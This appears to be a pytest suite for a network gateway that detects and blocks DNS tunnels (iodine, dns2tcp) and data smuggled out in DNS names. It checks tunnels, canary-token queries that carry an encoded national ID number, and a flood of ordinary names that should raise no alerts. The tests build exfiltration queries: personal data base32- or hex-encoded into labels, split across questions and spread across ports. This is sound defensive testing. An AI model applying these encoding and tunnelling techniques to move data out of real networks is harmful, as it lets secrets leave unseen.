"""Data that leaves in names: tunnels and tokens are found in their first seconds, an hour of ordinary names is not."""

import base64
import json
import time

import pytest

from dnspeers import Scripted, nothing
from dnstunnels import DNS2TCP, Iodine, ordinary_names
from dnswire import ask, many, questions
from gateway import dns
from net import CANARY, ORIGIN, POD_DH157, POD_OTHER, UNBOUND, Wiretap, until

NUMBER = "295109912611193"
SENSOR = r"""
sensors:
  - name: nir
    rules:
      - name: nir
        patterns:
          - {regex: '\b[12]\d{2}(0[1-9]|1[0-2])\d{2}\d{3}\d{3}\d{2}\b', context: [name]}
"""
CONFIG = SENSOR + """
services:
  - {name: myapp.default, mode: protect, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
  - {name: dh157.default, mode: monitor, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
  - {name: other.default, mode: protect, rules: [{to: any, action: allow}]}
"""
TUNNELS = ("dns_tunnel", "dns_exfiltration")


def found(gateway, *also):
    return [event for event in gateway.lines("events") if event.get("threat") in TUNNELS + also]


def left(tap, suffix):
    """Questions for names below a suffix that went to the resolver."""
    return [asked for asked, _ in questions(tap.packets(), UNBOUND) if asked.endswith(suffix)]


# Tunnels


@pytest.mark.parametrize("kind", ["NULL", "TXT", "CNAME", "A"])
def test_iodine_is_cut_in_protect(world, weir, unbound, tmp_path, kind):
    gateway = weir(CONFIG, dns=dns())
    started = time.monotonic()
    with Wiretap(world) as tap, Iodine(world, tmp_path, kind) as tunnel:
        while not found(gateway, "dns_null") and time.monotonic() - started < 10:
            tunnel.ping(20, size=400, pause=0.02)
        event = until(lambda: found(gateway, "dns_null"), timeout=1, what="a tunnel to be seen")[0]
        assert (event["action"], event["service"]) == ("deny", "myapp.default")
        time.sleep(0.3)
        before = len(left(tap, tunnel.suffix))
        assert tunnel.ping(5) == 0, "the tunnel still carries"
        assert len(left(tap, tunnel.suffix)) <= before, "questions still leave"
        assert before < 500
        if event["threat"] in TUNNELS:
            assert event["evidence"]["queries"] >= event["evidence"]["unique"] > 5
            assert tunnel.suffix in event["dns"]["name"]
        # Nobody else is harmed, nor are the pod's other names.
        assert ask(world, "origin.example").addresses == [ORIGIN]
        assert ask(world, "x.tunnel.example", "A", source=POD_OTHER, timeout=6).rcode != "REFUSED"
        assert not [e for e in found(gateway) if e["service"] != "myapp.default"]


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp_is_cut_in_protect(world, weir, unbound, tmp_path, kind):
    gateway = weir(CONFIG, dns=dns())
    with DNS2TCP(world, tmp_path, kind) as tunnel:
        assert tunnel.send(1_000_000, seconds=2) < 100_000
        if "Session created" in tunnel.said():
            assert found(gateway)[0]["action"] == "deny"


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_what_dns2tcp_asks_is_seen_to_be_a_tunnel(world, weir, unbound, tmp_path, kind):
    asked = DNS2TCP.recorded(world, tmp_path, kind, 40_000)
    assert len(asked) > 250
    gateway = weir(CONFIG, dns=dns())
    with Scripted(world, nothing, "127.0.0.1", unbound.DNS2TCP):
        many(world, asked, rate=400, window=16, timeout=1.5)
        # Outside Protect it is told of.
        many(world, asked, source=POD_DH157, rate=400, window=16, timeout=1.5)
    event = until(lambda: found(gateway), what="a tunnel to be seen")[0]
    assert (event["action"], event["service"], event["reason"]) == ("deny", "myapp.default", "threat")
    assert event["evidence"]["queries"] > 5
    denied = gateway.dns_sessions(asked[-1][0], service="myapp.default")[-1]
    assert denied["action"] == "deny", "it was not cut for good"
    assert len([s for s in gateway.lines("sessions") if s["service"] == "myapp.default" and s["action"] != "deny"]) < 150
    event = until(lambda: [e for e in found(gateway) if e["service"] == "dh157.default"], what="an alert")[0]
    assert (event["action"], event["would"]) == ("alert", "deny")


def test_a_tunnel_over_both_workers_is_one(world, weir, unbound):
    """Each question from another port, so that the kernel spreads them; and slowly, one after the other."""
    gateway = weir(CONFIG, dns=dns())
    data = bytes(range(256)) * 40
    for index in range(0, len(data), 30):
        label = base64.b32encode(index.to_bytes(2, "big") + data[index:index + 30]).decode().rstrip("=").lower()
        answer = ask(world, f"{label}.canarytokens.com")
        if answer.rcode != "NOERROR":
            break
    assert answer.rcode == "NXDOMAIN", "10 KiB left in names"
    assert until(lambda: found(gateway), what="an event")[0]["evidence"]["unique"] > 3


# Tokens


def base32(data):
    return base64.b32encode(data).decode().rstrip("=")


ENCODINGS = {
    "plain": lambda data: NUMBER,
    "base32": base32,
    "lower base32": lambda data: base32(data).lower(),
    "mixed base32": lambda data: "".join(c.lower() if i % 3 else c for i, c in enumerate(base32(data))),
    "base32hex": lambda data: base64.b32hexencode(data).decode().rstrip("=").lower(),
    "hex": lambda data: data.hex(),
    "upper hex": lambda data: data.hex().upper(),
    "base64url": lambda data: base64.urlsafe_b64encode(data).decode().rstrip("="),
}


@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS.keys())
def test_a_canary_token_with_data_in_its_labels(world, weir, unbound, encode):
    """As canarytokens.org has it: data, G and two digits, the token."""
    gateway = weir(CONFIG, dns=dns())
    text = encode(f"name=Jeanne nir={NUMBER} end".encode())
    labels = [text[i:i + 60] for i in range(0, len(text), 60)]
    what = ".".join([*labels, "G12", "w4vbsbnkwx2nm0q5yzkm1c8bz", "canarytokens.com"])
    with Wiretap(world) as tap:
        assert ask(world, what).rcode == "NXDOMAIN"
        assert ask(world, what, source=POD_DH157).addresses == [CANARY], "Monitor alerts"
        until(lambda: labels[0].encode().lower() in tap.payload().lower(), what="the question to leave")
        assert len(left(tap, "canarytokens.com")) <= 1
    for service, action in (("myapp.default", "deny"), ("dh157.default", "alert")):
        event = gateway.events(kind="finding", service=service)[0]
        finding = event["finding"]
        assert (event["action"], event["reason"]) == (action, "finding")
        assert (finding["sensor"], finding["context"], finding["match"]) == ("nir", "name", "2*************3")
        assert event["application"] == "DNS"
    lines = json.dumps(gateway.lines("sessions") + gateway.lines("events"))
    assert NUMBER not in lines and labels[0].lower() not in lines.lower(), "a record holds what it was to keep from leaving"


@pytest.mark.parametrize("encode,size", [(base32, 8), (lambda data: data.hex(), 6), (base32, 3)], ids=["base32", "hex", "uneven"])
def test_a_number_cut_over_several_questions(world, weir, unbound, encode, size):
    """Labels of one client to one registered domain are joined in order; those of others come between and do not matter."""
    gateway = weir(CONFIG, dns=dns())
    text = encode(f"nir={NUMBER};".encode())
    codes = []
    for index in range(0, len(text), size):
        codes.append(ask(world, f"{text[index:index + size]}.canarytokens.com").rcode)
        ask(world, f"zz{index}.canarytokens.com", source=POD_OTHER)
        ask(world, f"www{index}.origin.example")
    assert "NXDOMAIN" in codes, "the whole number left"
    event = gateway.events(kind="finding", service="myapp.default")[0]
    assert (event["finding"]["context"], event["finding"]["sensor"]) == ("name", "nir")
    assert not [e for e in gateway.lines("events") if e["service"] == "other.default"]


def test_numbers_that_are_none(world, weir, unbound):
    gateway = weir(CONFIG, dns=dns())
    for what in ("2951099126111.canarytokens.com", "img-295109912611193000.origin.example", "1-2-3-4.origin.example",
                 "a295109912611193b.canarytokens.com", f"{'deadbeef' * 4}.canarytokens.com"):
        ask(world, what)
    assert not gateway.lines("events")


# Ordinary names


def test_an_hour_of_ordinary_names_raises_nothing(world, weir, unbound):
    """Eleven thousand distinct names of one pod in some ten seconds, which is stricter than the hour they are made of."""
    gateway = weir(CONFIG + "limits: {dns_queries_per_client: 100000}\n", dns=dns())
    names = ordinary_names()
    assert len({what for what, _ in names}) >= 10_000
    answers = many(world, names, rate=1300)
    lost = [what for what, answer in zip(names, answers) if answer is None]
    assert len(lost) < 20, lost[:10]
    assert not [answer.rcode for answer in answers if answer and answer.rcode not in ("NOERROR", "NXDOMAIN")]
    until(lambda: gateway.count(b'"DNS"') >= len(names) - len(lost), timeout=15, what="a record of each")
    events = [(e.get("threat"), e["kind"], e.get("dns", {}).get("name"), e.get("evidence")) for e in gateway.lines("events")]
    assert events == []
    assert {session["action"] for session in gateway.lines("sessions")} == {"allow"}
